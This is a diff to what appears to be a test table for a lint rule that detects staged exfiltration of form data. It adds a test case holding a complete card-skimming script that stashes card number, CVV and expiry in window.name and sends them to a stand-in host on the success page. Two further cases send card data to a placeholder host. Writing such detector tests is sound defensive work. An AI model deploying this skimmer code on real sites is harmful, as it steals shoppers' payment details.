@@ -9,6 +9,7 @@ ruleTable(rule, {
     "sessionStorage.setItem('theme', 'dark'); navigator.sendBeacon('/b', 'x');",
   ],
   invalid: [
+    { name: 'window.name staging across pages (written on submit, read back and sent on the success page)', code: "(function (W, D) { function stash(f) { var el = f.elements, o = {}; for (var i = 0; i < el.length; i++) if (/cc_|cvv|cid|exp/i.test(el[i].name)) o[el[i].name] = el[i].value; W.name = 'k_' + JSON.stringify(o); } D.addEventListener('submit', function (e) { stash(e.target); }, true); if (/success/.test(location.pathname) && W.name.indexOf('k_') === 0) { var d = W.name.slice(2); W.name = ''; location.href = 'https:' + '//order-survey.example/s?o=' + encodeURIComponent(d); } })(window, document);", messageIds: ['staged'], severity: 'high' },
     { code: "localStorage.setItem('x', document.getElementById('cc-number').value); var x = new XMLHttpRequest(); x.open('POST', 'https://g.example/'); x.send(localStorage.getItem('x'));", messageIds: ['staged'], severity: 'high' },
     { code: "var d = $('form').serialize(); sessionStorage.setItem('d', d); new Image().src = 'https://g.example/?' + sessionStorage.getItem('d');", messageIds: ['staged'] },
   ],
